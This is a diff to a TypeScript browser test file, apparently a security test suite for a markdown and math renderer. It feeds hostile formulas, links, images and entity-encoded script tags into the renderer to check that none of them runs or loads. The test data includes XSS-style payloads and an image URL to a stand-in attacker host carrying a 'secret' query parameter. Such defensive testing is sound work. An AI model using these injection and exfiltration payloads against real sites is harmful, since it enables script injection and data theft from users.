@@ -1,7 +1,7 @@
 import type { RequestListener, ServerResponse } from 'node:http';
 import type { Page, Request } from 'playwright';
 import { afterEach, describe, expect, it } from 'vitest';
-import { hostileAddresses, hostileHtml, hostilePictures } from '../demo/hostile.ts';
+import { hostileAddresses, hostileFormulas, hostileHtml, hostilePictures } from '../demo/hostile.ts';
 import { startBrowser, type Tab } from './support/browser.ts';
 import { closeCleanly } from './support/clean.ts';
 import { eventually } from './support/eventually.ts';
@@ -38,9 +38,13 @@ function payloads(host: string): readonly string[] {
   const addresses = hostileAddresses.map((address) =>
     address.replaceAll('alert(1)', 'globalThis.pwned=1').replaceAll('evil.example', host),
   );
+  const formulas = hostileFormulas.map((tex) =>
+    tex.replaceAll('alert(1)', 'globalThis.pwned=1').replaceAll('https://evil.example', `http://${host}`),
+  );
   const simple = [
     ...hostilePictures.flatMap(([, write]) => [write(url), write('https://evil.example/p.png?q=secret')]),
     ...scripts,
+    ...formulas.flatMap((tex) => [`$$\n${tex}\n$$`, `so $x${tex}$ and \\(${tex}\\)`]),
     ...addresses.map((address) => `[press](<${address}>) ![picture](<${address}>) <${address}>`),
     // Entities, and what a browser would load without a click.
     `&lt;img src="${url}"&gt; &#60;script src="${url}"&#62;&#60;/script&#62; ![a](&#104;ttp://${host}/entity)`,
